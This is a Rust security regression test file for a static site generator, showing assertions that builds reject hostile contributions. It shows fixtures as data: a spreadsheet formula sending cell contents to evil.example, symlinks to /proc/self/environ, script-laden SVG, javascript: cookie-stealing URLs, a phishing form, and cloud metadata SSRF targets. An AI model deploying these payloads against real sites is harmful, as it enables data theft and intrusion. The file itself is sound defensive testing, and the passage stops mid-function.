//! Building pull requests from strangers: what a hostile contributor, a typo-prone
//! maintainer or a busy CI can do to hearth, and what hearth does instead. Each test
//! names the item of the trust review (issue 10) it covers.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use common::{minimal, run, snapshot, write, write_bytes, TINY_PNG};

/// A file outside the site that no build may publish or print.
fn secret() -> (tempfile::TempDir, std::path::PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("secrets.yaml");
    fs::write(&path, "api_key: hunter2-SECRET\n- not: [valid\n").unwrap();
    (dir, path)
}

fn link(target: &Path, at: &Path) {
    std::os::unix::fs::symlink(target, at).unwrap();
}

fn output_contains(dir: &Path, needle: &str) -> bool {
    snapshot(dir)
        .iter()
        .any(|(_, bytes)| String::from_utf8_lossy(bytes).contains(needle))
}

// 1. The output folder is deleted whatever it holds.
#[test]
fn an_output_folder_hearth_did_not_write_is_refused_and_kept() {
    let site = minimal();
    let victim = site.path().parent().unwrap().join(format!(
        "victim-{}",
        site.path().file_name().unwrap().to_string_lossy()
    ));
    fs::create_dir_all(&victim).unwrap();
    fs::write(victim.join("thesis.txt"), "years of work").unwrap();
    let yaml = fs::read_to_string(site.path().join("site.yaml")).unwrap();
    write(
        site.path(),
        "site.yaml",
        &format!(
            "{yaml}output: ../{}\n",
            victim.file_name().unwrap().to_string_lossy()
        ),
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(
        r.stderr.contains("was not written by hearth"),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains("site.yaml:"),
        "the error is at the `output:` line: {}",
        r.stderr
    );
    assert_eq!(
        fs::read_to_string(victim.join("thesis.txt")).unwrap(),
        "years of work"
    );

    let docs = tempfile::tempdir().unwrap();
    fs::write(docs.path().join("notes.txt"), "mine").unwrap();
    let r = run(
        &["build", ".", "-o", docs.path().to_str().unwrap()],
        site.path(),
    );
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr.contains(docs.path().to_str().unwrap()),
        "names the folder: {}",
        r.stderr
    );
    assert_eq!(
        fs::read_to_string(docs.path().join("notes.txt")).unwrap(),
        "mine"
    );

    fs::create_dir_all(site.path().join(".git")).unwrap();
    fs::write(site.path().join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    let r = run(&["build", ".", "-o", ".git"], site.path());
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(site.path().join(".git/HEAD").exists());
    let _ = fs::remove_dir_all(&victim);

    // An empty folder, and hearth's own output, are replaced as before.
    let empty = tempfile::tempdir().unwrap();
    let out = empty.path().to_str().unwrap();
    assert_eq!(run(&["build", ".", "-o", out], site.path()).code, 0);
    assert!(empty.path().join(".hearth-output").is_file());
    assert_eq!(run(&["build", ".", "-o", out], site.path()).code, 0);
}

// 20. `-o SITE/.hearth-cache` replaced the cache.
#[test]
fn the_cache_and_the_home_folder_are_never_an_output() {
    let site = minimal();
    assert_eq!(run(&["build", "."], site.path()).code, 0);
    let r = run(&["build", ".", "-o", ".hearth-cache"], site.path());
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains(".hearth-cache"), "{}", r.stderr);
    let home = tempfile::tempdir().unwrap();
    let r = common::run_env(
        &["build", ".", "-o", home.path().to_str().unwrap()],
        site.path(),
        &[("HOME", home.path().to_str().unwrap())],
    );
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains("home folder"), "{}", r.stderr);
}

// 2. Symlinks were followed and published (`avatar: zed.png -> /proc/self/environ`).
#[test]
fn an_avatar_linked_out_of_the_site_is_an_error_and_never_published() {
    let site = common::community();
    link(
        Path::new("/proc/self/environ"),
        &site.path().join("members/zed.png"),
    );
    write(
        site.path(),
        "members/zed.md",
        "---\nname: Zed\navatar: zed.png\n---\nHi.\n",
    );
    let (_keep, secret) = secret();
    link(&secret, &site.path().join("members/yan.png"));
    write(
        site.path(),
        "members/yan.md",
        "---\nname: Yan\navatar: yan.png\n---\nHi.\n",
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stderr.contains("members/zed.png"), "{}", r.stderr);
    assert!(r.stderr.contains("members/yan.png"), "{}", r.stderr);
    assert!(r.stderr.contains("outside the site"), "{}", r.stderr);
    assert!(
        !r.stderr.contains("hunter2") && !r.stderr.contains("PATH="),
        "{}",
        r.stderr
    );
    assert!(!site.path().join("public").exists());
}

// 3. Files read through outside symlinks printed their content in errors.
#[test]
fn a_links_file_site_yaml_or_guideline_linked_out_is_named_not_shown() {
    for at in [
        "links/x.yaml",
        "guidelines/coc.md",
        "site.yaml",
        "content/about.md",
    ] {
        let site = common::community();
        let (_keep, secret) = secret();
        let path = site.path().join(at);
        let _ = fs::remove_file(&path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        link(&secret, &path);
        let r = run(&["build", "."], site.path());
        assert_eq!(r.code, 1, "{at}: {}", r.stderr);
        assert!(r.stderr.contains(at), "{at} is named: {}", r.stderr);
        assert!(
            !r.stderr.contains("hunter2"),
            "{at} is not shown: {}",
            r.stderr
        );
        let c = run(&["check", "."], site.path());
        assert!(
            !c.stdout.contains("hunter2") && !c.stderr.contains("hunter2"),
            "{at}"
        );
    }
    // A whole folder linked out is refused the same way.
    let site = common::community();
    let outside = tempfile::tempdir().unwrap();
    fs::write(
        outside.path().join("leak.yaml"),
        "- url: https://x.example/\n  title: hunter2\n  note: n\n  date: 2026-01-01\n",
    )
    .unwrap();
    fs::remove_dir_all(site.path().join("links")).unwrap();
    link(outside.path(), &site.path().join("links"));
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stderr.contains("links"), "{}", r.stderr);
    assert!(!r.stderr.contains("hunter2"), "{}", r.stderr);
}

// 4. `.hearth-cache` entries were trusted through symlinks.
#[test]
fn cache_entries_and_folders_are_never_followed_through_links() {
    let site = common::community();
    write(
        site.path(),
        "content/code.md",
        "---\ntitle: Code\n---\n```rust\nfn main() {}\n```\n",
    );
    assert_eq!(run(&["build", "."], site.path()).code, 0);
    let cards = site.path().join(".hearth-cache/cards");
    let victim_dir = tempfile::tempdir().unwrap();
    let victim = victim_dir.path().join("bashrc");
    fs::write(&victim, "alias ls='ls --color'\n").unwrap();
    // A planted card is a link to a file outside: it is drawn again, not published.
    let (_keep, secret) = secret();
    for entry in fs::read_dir(&cards).unwrap() {
        let p = entry.unwrap().path();
        fs::remove_file(&p).unwrap();
        link(&secret, &p);
    }
    // The highlight cache is a link to a file of the user's: it is replaced, the
    // user's file is left alone.
    let highlight = site.path().join(".hearth-cache/highlight.bin");
    let _ = fs::remove_file(&highlight);
    link(&victim, &highlight);
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(!output_contains(&site.path().join("public"), "hunter2"));
    assert_eq!(
        fs::read_to_string(&victim).unwrap(),
        "alias ls='ls --color'\n"
    );
    assert!(!fs::symlink_metadata(&highlight)
        .unwrap()
        .file_type()
        .is_symlink());

    // A cache folder that is a link is refused; nothing is written where it points.
    fs::remove_dir_all(site.path().join(".hearth-cache")).unwrap();
    let elsewhere = tempfile::tempdir().unwrap();
    link(elsewhere.path(), &site.path().join(".hearth-cache"));
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stderr.contains(".hearth-cache"), "{}", r.stderr);
    assert_eq!(fs::read_dir(elsewhere.path()).unwrap().count(), 0);
}

// 4. `external.json -> ~/.bashrc` was overwritten by `check --external`.
#[test]
fn check_external_never_writes_through_a_planted_cache_link() {
    let site = minimal();
    let victim_dir = tempfile::tempdir().unwrap();
    let victim = victim_dir.path().join("bashrc");
    fs::write(&victim, "export KEEP=1\n").unwrap();
    fs::create_dir_all(site.path().join(".hearth-cache")).unwrap();
    link(&victim, &site.path().join(".hearth-cache/external.json"));
    let port = http_server(|_| {
        "HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok".to_string()
    });
    write(
        site.path(),
        "content/about.md",
        &format!(
            "---\ntitle: About\n---\n## Who we are\n\nSee [this](http://127.0.0.1:{port}/x).\n"
        ),
    );
    let r = run(
        &["check", ".", "--external", "--allow-private"],
        site.path(),
    );
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    assert_eq!(fs::read_to_string(&victim).unwrap(), "export KEEP=1\n");
}

// 5. `serve` checked symlinks only on the first build.
#[test]
fn serve_never_serves_a_file_swapped_for_a_link_while_serving() {
    let site = minimal();
    write(
        site.path(),
        "static/favicon.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"/>",
    );
    let server = common::serve::start(site.path());
    let (status, _) = common::serve::request(server.port, "/hub/favicon.svg");
    assert!(status.contains("200"), "{status}");
    let (_keep, secret) = secret();
    let fav = site.path().join("static/favicon.svg");
    fs::remove_file(&fav).unwrap();
    link(&secret, &fav);
    let deadline = Instant::now() + Duration::from_secs(3);
    while Instant::now() < deadline {
        let (_, body) = common::serve::request(server.port, "/hub/favicon.svg");
        assert!(!body.contains("hunter2"), "the secret was served");
        std::thread::sleep(Duration::from_millis(100));
    }
}

// 6. A title starting with `=` became a spreadsheet formula in posts.csv.
#[test]
fn posts_csv_cells_cannot_become_formulas() {
    let site = minimal();
    write(
        site.path(),
        "content/news/2026-11-03-evil.md",
        "---\ntitle: \"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"x\\\")\"\n---\nx\n",
    );
    assert_eq!(run(&["build", "."], site.path()).code, 0);
    let csv = fs::read_to_string(site.path().join("public/promote/posts.csv")).unwrap();
    assert!(csv.contains("'=HYPERLINK"), "{csv}");
    for line in csv.lines() {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(!cell.starts_with(['=', '+', '-', '@']), "{line}");
        }
    }
}

// 7. SVG avatars were copied with their `<script>` and `onload`.
#[test]
fn svg_avatars_are_published_without_anything_active() {
    let site = common::community();
    write(
        site.path(),
        "members/zed.svg",
        r#"<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="alert(1)"><script>alert(2)</script><foreignObject width="9" height="9"><iframe src="https://evil.example/"/></foreignObject><circle cx="32" cy="32" r="30" fill="teal"/></svg>"#,
    );
    write(
        site.path(),
        "members/zed.md",
        "---\nname: Zed\navatar: zed.svg\n---\nHi.\n",
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 0, "{}", r.stderr);
    let svg = fs::read_to_string(site.path().join("public/members/zed/zed.svg")).unwrap();
    for bad in ["script", "onload", "alert", "foreignObject", "evil.example"] {
        assert!(!svg.contains(bad), "{bad} survived: {svg}");
    }
    assert!(svg.contains("<path"), "the drawing stays: {svg}");
}

// 8. Control characters made the feeds invalid XML while the build said fine.
#[test]
fn control_characters_are_an_error_at_the_key_that_holds_them() {
    let site = common::community();
    write(
        site.path(),
        "links/reading.yaml",
        "- url: https://blog.example.com/async\n  title: Async\n  note: \"Bell \\u0007 here\"\n  date: 2026-11-02\n",
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stderr.contains("links/reading.yaml:3:"), "{}", r.stderr);
    assert!(r.stderr.contains("U+0007"), "{}", r.stderr);

    let site = common::community();
    write(
        site.path(),
        "content/about.md",
        "---\ntitle: About\u{c}us\n---\nx\n",
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stderr.contains("content/about.md:2:"), "{}", r.stderr);
    assert!(
        !r.stderr.contains("card.svg"),
        "the page is blamed, not the card: {}",
        r.stderr
    );
}

// 9. Sanitized bios kept id/class, form controls and remote tracking images.
#[test]
fn sanitized_bios_and_pages_lose_ids_classes_forms_and_trackers() {
    let site = common::community();
    let bio = "<div id=\"hearth-problem\" class=\"site-header\" style=\"position:fixed\">Fake</div>\n\n<form action=\"https://evil.example/\"><input type=\"password\" name=\"pw\"><button>Log in</button></form>\n\n![pixel](https://tracker.example/p.gif)\n\n## Hello\n";
    write(
        site.path(),
        "members/zed.md",
        &format!("---\nname: Zed\n---\n{bio}"),
    );
    write(
        site.path(),
        "content/post.md",
        &format!("---\ntitle: Post\n---\n{bio}"),
    );
    let yaml = fs::read_to_string(site.path().join("site.yaml")).unwrap();
    write(
        site.path(),
        "site.yaml",
        &format!("{yaml}content:\n  sanitize: true\n"),
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 0, "{}", r.stderr);
    for page in ["public/members/zed/index.html", "public/post/index.html"] {
        let html = fs::read_to_string(site.path().join(page)).unwrap();
        let main = html.split("<main").nth(1).unwrap();
        for bad in [
            "hearth-problem",
            "position:fixed",
            "type=\"password\"",
            "<button>Log in",
            "tracker.example",
            "evil.example",
        ] {
            assert!(!main.contains(bad), "{page}: {bad} survived");
        }
        assert!(
            main.contains("id=\"hello\""),
            "{page}: heading anchors stay"
        );
    }
    // `members.remote_images: true` keeps images from other hosts.
    let remote = yaml.replace("members:\n", "members:\n  remote_images: true\n");
    assert_ne!(remote, yaml);
    write(site.path(), "site.yaml", &remote);
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 0, "{}", r.stderr);
    let html = fs::read_to_string(site.path().join("public/members/zed/index.html")).unwrap();
    assert!(html.contains("tracker.example"));
}

// 10. `event.url: javascript:…` was published in the page and the .ics.
#[test]
fn an_event_url_must_be_http_or_https() {
    let site = minimal();
    write(
        site.path(),
        "content/call.md",
        "---\ntitle: Call\nevent:\n  start: 2026-12-03T18:00:00Z\n  url: \"javascript:alert(document.cookie)\"\n---\nx\n",
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stderr.contains("content/call.md:5:"), "{}", r.stderr);
    assert!(r.stderr.contains("javascript:"), "{}", r.stderr);

    // Where it makes sense (a profile's contact links), mailto is fine too.
    let site = minimal();
    write(
        site.path(),
        "members/ada.md",
        "---\nname: Ada\nlinks:\n  - { label: Mail, url: \"mailto:ada@example.org\" }\n---\n",
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 0, "{}", r.stderr);
}

// 11. A file name with an empty slug overwrote an index page or vanished.
#[test]
fn a_name_that_leaves_no_slug_is_an_error() {
    for path in ["guidelines/???.md", "content/news/!!!.md"] {
        let site = common::community();
        write(site.path(), path, "---\ntitle: Nameless\n---\n## Rule\n");
        let r = run(&["build", "."], site.path());
        assert_eq!(r.code, 1, "{path}: {}", r.stderr);
        assert!(r.stderr.contains(path), "{path}: {}", r.stderr);
        assert!(r.stderr.contains("nothing usable in a URL"), "{}", r.stderr);
    }
}

// 12. A 60-word link title or a 300-character tag failed with `File name too long`.
#[test]
fn long_titles_and_tags_get_short_stable_file_names() {
    let site = common::community();
    let title = "word ".repeat(60);
    let tag = "t".repeat(300);
    write(
        site.path(),
        "links/long.yaml",
        &format!("- url: https://long.example/\n  title: {title}\n  note: Long.\n  date: 2026-11-03\n  tags: [{tag}]\n"),
    );
    write(
        site.path(),
        "content/long.md",
        &format!("---\ntitle: {title}\ntags: [{tag}]\n---\nx\n"),
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 0, "{}", r.stderr);
    for (path, _) in snapshot(&site.path().join("public")) {
        for part in path.components() {
            assert!(part.as_os_str().len() <= 255, "{}", path.display());
        }
    }
    let c = run(&["check", "."], site.path());
    assert_eq!(c.code, 0, "{}{}", c.stdout, c.stderr);
}

// 13. A UTF-8 byte-order mark gave false errors.
#[test]
fn a_byte_order_mark_is_not_content() {
    let site = common::community();
    for file in [
        "site.yaml",
        "links/reading.yaml",
        "content/about.md",
        "members/bob.md",
    ] {
        let text = fs::read_to_string(site.path().join(file)).unwrap();
        write(site.path(), file, &format!("\u{feff}{text}"));
    }
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 0, "{}", r.stderr);
}

// 14. Impossible dates in file names, misplaced date errors, drafts and empty tags
// dropped silently, follow-on errors.
#[test]
fn silent_losses_are_located_errors_without_follow_ons() {
    let site = minimal();
    write(
        site.path(),
        "content/news/2026-13-45-post.md",
        "---\ntitle: Post\n---\nx\n",
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(
        r.stderr.contains("content/news/2026-13-45-post.md"),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("not a date"), "{}", r.stderr);

    let site = minimal();
    write(
        site.path(),
        "content/about.md",
        "---\ntitle: About\ndate: 9999-12-31\n---\nx\n",
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stderr.contains("content/about.md:3:7"), "{}", r.stderr);

    let site = common::community();
    write(
        site.path(),
        "content/draft.md",
        "---\ntitle: Draft\ndraft: true\n---\nx\n",
    );
    write(
        site.path(),
        "links/more.yaml",
        "- url: https://more.example/\n  title: More\n  note: n\n  date: 2026-11-01\n  discuss: draft.md\n  tags: [\"???\"]\n",
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(
        r.stderr.contains("links/more.yaml:5:"),
        "discuss to a draft: {}",
        r.stderr
    );
    assert!(
        r.stderr.contains("links/more.yaml:6:"),
        "empty tag: {}",
        r.stderr
    );
    write(
        site.path(),
        "content/about.md",
        "---\ntitle: About\ntags: [\"!!!\"]\n---\nx\n",
    );
    let r = run(&["build", "."], site.path());
    assert!(
        r.stderr.contains("content/about.md:3:"),
        "empty page tag: {}",
        r.stderr
    );

    // One broken member file is one error, not one more in the links file.
    let site = common::community();
    write(site.path(), "members/ada.md", "---\nname: [broken\n---\n");
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stderr.contains("members/ada.md"), "{}", r.stderr);
    assert!(!r.stderr.contains("links/reading.yaml"), "{}", r.stderr);
    assert!(!r.stderr.contains("is not a member"), "{}", r.stderr);
    assert!(r.stderr.contains("failed with 1 error"), "{}", r.stderr);
}

/// A PNG header claiming `w`×`h` pixels with nothing behind it (855 bytes would do).
fn png_claiming(w: u32, h: u32) -> Vec<u8> {
    let mut b = TINY_PNG[..16].to_vec();
    b.extend_from_slice(&w.to_be_bytes());
    b.extend_from_slice(&h.to_be_bytes());
    b.extend_from_slice(&TINY_PNG[24..]);
    b
}

// 15. A PNG claiming 100000×100000 aborted the process; so did a huge card canvas.
#[test]
fn pictures_and_card_canvases_over_the_limit_are_refused_before_decoding() {
    let site = common::community();
    write_bytes(
        site.path(),
        "members/zed.png",
        &png_claiming(100_000, 100_000),
    );
    write(
        site.path(),
        "members/zed.md",
        "---\nname: Zed\navatar: zed.png\n---\nHi.\n",
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stderr.contains("members/zed.md:3:"), "{}", r.stderr);
    assert!(r.stderr.contains("100000×100000"), "{}", r.stderr);
    assert!(!r.stderr.contains("memory allocation"), "{}", r.stderr);

    let site = minimal();
    write(
        site.path(),
        "templates/cards/card.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"100000\" height=\"100000\"><text>{{ card.title_lines | first }}</text></svg>",
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stderr.contains("100000×100000"), "{}", r.stderr);

    // serve draws cards on request: the same limit, no crash.
    let server = common::serve::start(site.path());
    let (status, _) = common::serve::request(server.port, "/hub/cards/about.png");
    assert!(!status.contains("200"), "{status}");
    let (status, _) = common::serve::request(server.port, "/hub/about/");
    assert!(status.contains("200"), "serve is still up: {status}");
}

// 16. Two builds into one output were not locked.
#[test]
fn concurrent_builds_of_one_output_take_turns() {
    let site = common::community();
    assert_eq!(run(&["build", "."], site.path()).code, 0);
    let reference = snapshot(&site.path().join("public"));
    for _ in 0..6 {
        let handles: Vec<_> = (0..2)
            .map(|_| {
                let dir = site.path().to_path_buf();
                std::thread::spawn(move || run(&["build", "."], &dir))
            })
            .collect();
        for h in handles {
            let r = h.join().unwrap();
            assert_eq!(r.code, 0, "{}", r.stderr);
        }
        assert_eq!(
            snapshot(&site.path().join("public")),
            reference,
            "every file is there"
        );
    }
    let leftovers: Vec<String> = fs::read_dir(site.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".public.hearth-"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

// 17. A swap that cannot delete the old output told untruths and blocked every
// later build; a crash between the two renames left no output; a full disk left temp
// files in the cache.
#[test]
fn interrupted_and_stuck_swaps_are_finished_and_told_truthfully() {
    let site = minimal();
    assert_eq!(run(&["build", "."], site.path()).code, 0);
    // A crash between the renames: the output was moved aside and never replaced.
    fs::rename(
        site.path().join("public"),
        site.path().join(".public.hearth-old"),
    )
    .unwrap();
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(
        r.stderr.contains("restored the previous output"),
        "{}",
        r.stderr
    );
    assert!(site.path().join("public/index.html").is_file());
    assert!(!site.path().join(".public.hearth-old").exists());

    // A stale temp file of a build that died on a full disk is cleared.
    let stale = site.path().join(".hearth-cache/cards/0123.tmp4242");
    fs::write(&stale, "half a png").unwrap();
    let f = fs::File::options().write(true).open(&stale).unwrap();
    f.set_modified(std::time::SystemTime::now() - Duration::from_secs(7200))
        .unwrap();
    drop(f);
    assert_eq!(run(&["build", "."], site.path()).code, 0);
    assert!(!stale.exists());

    // The old output cannot be deleted (an immutable file stands for a root-owned one
    // from a Docker build): the new output is in place and the message says so.
    let stuck = site.path().join("public/index.html");
    let made = std::process::Command::new("chattr")
        .arg("+i")
        .arg(&stuck)
        .status();
    if !common::require_tool(
        made.is_ok_and(|s| s.success()),
        "chattr +i (root on a file system with immutable files)",
    ) {
        return;
    }
    write(
        site.path(),
        "content/about.md",
        "---\ntitle: About\n---\nNew text.\n",
    );
    let second = run(&["build", "."], site.path());
    let third = run(&["build", "."], site.path());
    let _ = std::process::Command::new("chattr")
        .arg("-i")
        .arg(site.path().join(".public.hearth-old/index.html"))
        .status();
    assert_eq!(second.code, 0, "{}", second.stderr);
    assert!(
        second.stderr.contains("the new output is in place"),
        "{}",
        second.stderr
    );
    assert!(
        !second.stderr.contains("left as it was"),
        "{}",
        second.stderr
    );
    assert!(
        fs::read_to_string(site.path().join("public/about/index.html"))
            .unwrap()
            .contains("New text.")
    );
    assert_eq!(
        third.code, 0,
        "a stuck leftover does not block later builds: {}",
        third.stderr
    );
    assert!(
        third.stderr.contains("delete it by hand"),
        "{}",
        third.stderr
    );
}

// 18. Output cards were hard links into the cache.
#[test]
fn editing_output_cards_in_place_never_changes_the_cache() {
    let site = minimal();
    assert_eq!(run(&["build", "."], site.path()).code, 0);
    let card = site.path().join("public/cards/about.png");
    let original = fs::read(&card).unwrap();
    // An optimiser rewrites the PNG in place.
    fs::OpenOptions::new()
        .write(true)
        .open(&card)
        .unwrap()
        .write_all(b"OPTIMISED")
        .unwrap();
    assert_eq!(run(&["build", "."], site.path()).code, 0);
    assert_eq!(
        fs::read(&card).unwrap(),
        original,
        "the next build publishes the real card"
    );
}

// 19. A 50 MB page took 850 MB of memory and the feeds carried it whole.
#[test]
fn huge_pages_are_refused_and_long_ones_are_summarised_in_feeds() {
    let site = minimal();
    let body = "A long talk transcript line that goes on.\n\n".repeat(60_000);
    write(
        site.path(),
        "content/news/2026-11-03-talk.md",
        &format!("---\ntitle: Talk\n---\n{body}"),
    );
    assert_eq!(run(&["build", "."], site.path()).code, 0);
    let feed = fs::read_to_string(site.path().join("public/feed.xml")).unwrap();
    assert!(feed.len() < 300 * 1024, "the feed is {} bytes", feed.len());
    assert!(feed.contains("Read the whole page on the site."));

    let big = "x".repeat(50 * 1024 * 1024);
    write(
        site.path(),
        "content/news/2026-11-04-huge.md",
        &format!("---\ntitle: Huge\n---\n{big}"),
    );
    let r = run(&["build", "."], site.path());
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(
        r.stderr.contains("content/news/2026-11-04-huge.md"),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("at most 8 MB"), "{}", r.stderr);
}

// 21. Ctrl+C was ignored while a browser tab was open.
#[test]
fn ctrl_c_stops_serve_within_a_second_with_a_tab_open() {
    let site = minimal();
    let mut server = common::serve::start(site.path());
    let _events = common::serve::listen(server.port);
    let pid = server.child.id().to_string();
    let sent = Instant::now();
    assert!(std::process::Command::new("kill")
        .args(["-INT", &pid])
        .status()
        .unwrap()
        .success());
    loop {
        if server.child.try_wait().unwrap().is_some() {
            break;
        }
        assert!(
            sent.elapsed() < Duration::from_secs(1),
            "serve still runs after Ctrl+C"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// The resident memory of a process, in KiB.
fn rss_kib(pid: u32) -> u64 {
    fs::read_to_string(format!("/proc/{pid}/status"))
        .unwrap()
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.split_whitespace().next()?.parse().ok())
        .unwrap()
}

// 22. No Host check, no header-read timeout, memory growing by the page per request.
#[test]
fn serve_answers_only_its_own_host_drops_silent_clients_and_shares_pages() {
    let site = minimal();
    let body = "Six megabytes of page, served many times.\n\n".repeat(140_000);
    write(
        site.path(),
        "content/big.md",
        &format!("---\ntitle: Big\n---\n{body}"),
    );
    let server = common::serve::start(site.path());
    let (status, _) = common::serve::request_as(server.port, "/hub/", "attacker.example");
    assert!(status.contains("421"), "{status}");
    let (status, _) =
        common::serve::request_as(server.port, "/hub/", &format!("localhost:{}", server.port));
    assert!(status.contains("200"), "{status}");

    // A client that connects and never sends its headers is dropped.
    let mut idle = std::net::TcpStream::connect(("127.0.0.1", server.port)).unwrap();
    idle.set_read_timeout(Some(Duration::from_secs(8))).unwrap();
    let started = Instant::now();
    let mut buf = [0u8; 64];
    let _ = idle.read(&mut buf);
    assert!(
        started.elapsed() < Duration::from_secs(7),
        "the idle connection was kept"
    );

    let (_, first) = common::serve::request(server.port, "/hub/big/");
    assert!(first.len() > 5_000_000);
    let before = rss_kib(server.child.id());
    for _ in 0..16 {
        let (status, _) = common::serve::request(server.port, "/hub/big/");
        assert!(status.contains("200"));
    }
    let grown = rss_kib(server.child.id()).saturating_sub(before);
    assert!(grown < 40 * 1024, "16 requests grew memory by {grown} KiB");
}

/// A one-thread HTTP server on 127.0.0.1 answering every request with `answer`.
fn http_server(answer: impl Fn(&str) -> String + Send + 'static) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut s = stream;
            let mut buf = [0u8; 2048];
            let n = s.read(&mut buf).unwrap_or(0);
            let head = String::from_utf8_lossy(&buf[..n]).into_owned();
            let _ = s.write_all(answer(&head).as_bytes());
        }
    });
    port
}

// 23. check --external fetched loopback and metadata addresses from CI.
#[test]
fn check_external_leaves_private_addresses_unchecked_unless_allowed() {
    let hits = Arc::new(AtomicUsize::new(0));
    let counter = hits.clone();
    let port = http_server(move |_| {
        counter.fetch_add(1, Ordering::SeqCst);
        "HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok".into()
    });
    let site = minimal();
    write(
        site.path(),
        "content/about.md",
        &format!("---\ntitle: About\n---\n[local](http://127.0.0.1:{port}/) and [metadata](http://169.254.169.254/latest/meta-data/).\n"),
    );
    let r = run(
        &["check", ".", "--external", "--format", "json"],
        site.path(),
    );
    assert_eq!(
        hits.load(Ordering::SeqCst),
        0,
        "nothing private was fetched"
    );
    assert!(
        r.stdout.contains("169.254.169.254") && r.stdout.contains("not checked"),
        "{}",
        r.stdout
    );
    assert!(r.stdout.contains("--allow-private"), "{}", r.stdout);
    let r = run(
        &["check", ".", "--external", "--allow-private"],
        site.path(),
    );
    assert!(hits.load(Ordering::SeqCst) > 0, "{}{}", r.stdout, r.stderr);
    assert_eq!(run(&["build", ".", "--allow-private"], site.path()).code, 2);
}

/// The policy tests use: only 127.0.0.2 counts as private, so the test's own server
/// on 127.0.0.1 stands for a public host.
fn only_127_0_0_2(ip: &std::net::IpAddr) -> bool {
    *ip == std::net::IpAddr::from([127, 0, 0, 2])
}

fn check_urls(
    urls: &[String],
    budget: Duration,
) -> std::collections::HashMap<String, hearth::check::external::Outcome> {
    use hearth::check::external::{check, Cache, Policy};
    let policy = Policy {
        allow_private: false,
        budget,
        is_private: only_127_0_0_2,
    };
    let now = hearth::model::Date::from_timestamp(jiff::Timestamp::UNIX_EPOCH);
    check(urls, &Cache::open(None), now, &policy)
}

// 23. …also when reached by a redirect; no overall time limit; bodies read uncapped.
#[test]
fn redirects_are_checked_hop_by_hop_within_a_time_budget_without_reading_bodies() {
    use hearth::check::external::Outcome;
    let private_hits = Arc::new(AtomicUsize::new(0));
    let counter = private_hits.clone();
    let private = TcpListener::bind("127.0.0.2:0").unwrap();
    let private_port = private.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for _ in private.incoming() {
            counter.fetch_add(1, Ordering::SeqCst);
        }
    });
    let redirecting = http_server(move |_| {
        format!("HTTP/1.1 302 Found\r\nLocation: http://127.0.0.2:{private_port}/meta\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
    });
    // A body that never ends: only the status is read.
    let endless = TcpListener::bind("127.0.0.1:0").unwrap();
    let endless_port = endless.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in endless.incoming().flatten() {
            std::thread::spawn(move || {
                let mut s = stream;
